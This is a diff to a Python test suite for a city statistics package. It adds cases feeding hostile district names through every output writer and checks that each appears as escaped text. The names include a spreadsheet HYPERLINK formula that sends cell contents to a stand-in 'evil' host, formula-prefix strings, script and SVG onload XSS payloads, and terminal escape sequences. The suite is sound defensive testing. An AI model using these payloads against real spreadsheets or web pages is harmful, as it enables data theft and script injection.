@@ -140,6 +140,15 @@ class IdentityWarned:
 
 
 @dataclass(frozen=True)
+class Inert:
+    """A district name (read from the boundary file) that some reader's tool would interpret: every
+    published format shows it as text (:func:`check_inert`). ``shown``: how the figures, the workbook
+    and console messages show it (control characters escaped), None: as delivered."""
+
+    shown: str | None = None
+
+
+@dataclass(frozen=True)
 class Case:
     id: str
     input_de: str  # the bad input, as a planner would describe it
@@ -365,6 +374,11 @@ def grid_with(index: int, column: str, value) -> Callable[[], gpd.GeoDataFrame]:
         return grid
 
     return frame
+
+
+def hostile_name(name: str) -> Callable[[Path], Path]:
+    """A boundary file whose district A is called ``name``."""
+    return boundary_file(grid_with(0, "name", name))
 
 
 def grid_shifted(xoff: float) -> gpd.GeoDataFrame:
@@ -1126,13 +1140,86 @@ CASES: list[Case] = [
     Case("l-other-city", "Auszug einer anderen Stadt (alle Adressen außerhalb der Bezirke)", "location",
          persons_at(*[(x + 100_000, y) for x, y in INSIDE]),
          Unusable("location.outside_share", "x", match="outside every district")),
+    # ---------------------------------------------------------------- names that attack a reader's tool
+    Case("n-formula", "Bezirksname `=HYPERLINK(\"http://evil/?\"&A1,\"x\")` (Tabellenformel)", "names",
+         hostile_name('=HYPERLINK("http://evil/?"&A1,"x")'), Inert(),
+         effect="text: CSV cell with a leading `'`, workbook string cell with quote prefix, never a formula"),
+    Case("n-plus", "Bezirksname `+SUM(1)`", "names", hostile_name("+SUM(1)"), Inert(),
+         effect="text: CSV `'+SUM(1)`, workbook string cell with quote prefix"),
+    Case("n-minus", "Bezirksname `-2+3`", "names", hostile_name("-2+3"), Inert(),
+         effect="text: CSV `'-2+3`, workbook string cell with quote prefix (numbers stay numbers)"),
+    Case("n-at", "Bezirksname `@cmd`", "names", hostile_name("@cmd"), Inert(),
+         effect="text: CSV `'@cmd`, workbook string cell with quote prefix"),
+    Case("n-tab", "Bezirksname beginnt mit einem Tabulator (`\\tTab`)", "names", hostile_name("\tTab"),
+         Inert(shown="\\x09Tab"), effect="CSV `'` + tab; figures, workbook and console show `\\x09Tab`"),
+    Case("n-mathtext", "Bezirksname `$\\alpha$ x` (matplotlib-Mathtext)", "names", hostile_name("$\\alpha$ x"),
+         Inert(), effect="figures draw `$\\alpha$ x` as written (no mathtext)"),
+    Case("n-mathtext-invalid", "Bezirksname `Preis $x^$ Ost` (ungültiges Mathtext)",
+         "names", hostile_name("Preis $x^$ Ost"), Inert(), effect="figures draw it as written; nothing breaks"),
+    Case("n-script", "Bezirksname `<script>alert(1)</script>`", "names",
+         hostile_name("<script>alert(1)</script>"), Inert(),
+         effect="HTML: escaped (`&lt;script&gt;`); SVG: text of a `<text>` element"),
+    Case("n-svg", "Bezirksname `</svg><svg onload=alert(1)>`", "names",
+         hostile_name("</svg><svg onload=alert(1)>"), Inert(),
+         effect="HTML: escaped; SVG: escaped text, the file stays one well-formed SVG"),
+    Case("n-escape", "Bezirksname mit Terminal-Steuerfolge (ESC `[31m`) und Richtungsumkehr (U+202E)", "names",
+         hostile_name("Nord\x1b[31m rot\u202eSüd"), Inert(shown="Nord\\x1b[31m rot\\u202eSüd"),
+         effect="figures, workbook, console show `\\x1b[31m` and `\\u202e` as text (an SVG could not even "
+                "hold ESC); CSV and Parquet keep the name as delivered"),
 ]
+
+
+def check_inert(name: str, shown: str, folder: Path) -> None:
+    """``name`` written by every publishing writer: CSV and Parquet, workbook, figure (PNG + SVG), HTML,
+    console message. Each shows it as text."""
+    import csv
+    import xml.etree.ElementTree as ET
+
+    from markupsafe import escape
+    from openpyxl import load_workbook
+
+    from quarterstats.figures import _draw, style
+    from quarterstats.publication import write_excel, write_long_tables
+    from quarterstats.report import render_index
+    from quarterstats.safe_text import console_text, html_text, is_formula_like
+
+    table = pd.DataFrame({"district_id": pd.array(["A"], dtype="string"),
+                          "district_name": pd.array([name], dtype="string"), "value": [-1.5]})
+    write_long_tables(table, folder)
+    record = list(csv.reader(io.StringIO((folder / "indikatoren.csv").read_text(encoding="utf-8"), newline="")))[1]
+    assert record[1] == ("'" + name if is_formula_like(name) else name) and record[2] == "-1.5"
+    assert pd.read_parquet(folder / "indikatoren.parquet")["district_name"].item() == name
+    write_excel({"Bezirke": table.rename(columns={"district_id": "Bezirk", "district_name": "Name"})},
+                folder / "tabellen.xlsx")
+    cell = load_workbook(folder / "tabellen.xlsx")["Bezirke"]["B2"]
+    assert (cell.value, cell.data_type) == (shown, "s") and cell.quotePrefix == is_formula_like(shown)
+
+    def figure():
+        fig = style.new_figure(8, 6)
+        ax = fig.subplots()
+        ax.set_title(name)
+        ax.set_yticks([0, 1], ["Stadt insgesamt", name])
+        ax.legend(handles=ax.plot([0, 1], [0, 1], label=name))
+        return style.Drawn(fig, name, name)
+
+    drawn = _draw(figure)
+    texts = ["".join(t.itertext()) for t in ET.fromstring(drawn.svg).iter() if t.tag.endswith("}text")]
+    assert texts.count(shown) == 3  # title, tick label, legend: drawn literally, no mathtext
+    assert drawn.png.startswith(b"\x89PNG")
+    html = render_index(folder, [], city_name=name).read_text(encoding="utf-8")
+    assert str(escape(html_text(name))) in html and ("<" not in name or name not in html)
+    assert not any(c in html for c in "\x1b\u202e")
+    message = str(InputError(f"unknown district {name}", file=folder / f"{name}.gpkg", column=name))
+    assert all(console_text(c) == c for c in message) and shown in message
 
 
 # ============================================================================ running a case
 def run_case(case: Case, folder: Path):
     """Make the bad input in ``folder`` and feed it to the code that reads it."""
     made = case.make(folder)
+    if case.area == "names":
+        districts, _ = load_boundaries(made)
+        return made, districts.loc[districts["district_id"] == "A", "name"].item()
     if case.area == "register":
         return made, ingest_register(made, **case.options)
     if case.area == "boundaries":
@@ -1185,6 +1272,10 @@ def test_bad_input(case: Case, tmp_path: Path):
         assert expect.rule in text and (expect.column is None or f"column '{expect.column}'" in text)
         return
     made, result = run_case(case, tmp_path)
+    if isinstance(expect, Inert):
+        assert result is not None
+        check_inert(result, expect.shown or result, tmp_path)
+        return
     if isinstance(expect, Ingested):
         assert result.input_rows == result.accepted_rows + result.quarantined_rows
         assert result.quarantine["rule"].value_counts().to_dict() == expect.quarantined
@@ -1265,6 +1356,7 @@ WHERE = {  # short forms; docs/bad-inputs.md explains them above the table
                           "(warns)",
     ("location", "nearest"): "nearest-district table; run metadata",
     ("location", "unusable"): "message, exit 2 (`run`, persons stage)",
+    ("names", "inert"): "every published file (CSV, Parquet, Excel, figures, HTML) and console messages",
 }
 
 
@@ -1323,6 +1415,8 @@ def behaviour(case: Case) -> tuple[str, str]:
                     WHERE[("location", "nearest")])
         extra = f"; counted as ambiguous ×{e.ambiguous}" if e.ambiguous else ""
         return f"assigned to exactly one district{extra}", WHERE[("location", "located")]
+    if isinstance(e, Inert):
+        return f"read as delivered; {case.effect}", WHERE[("names", "inert")]
     raise AssertionError(e)
 
 
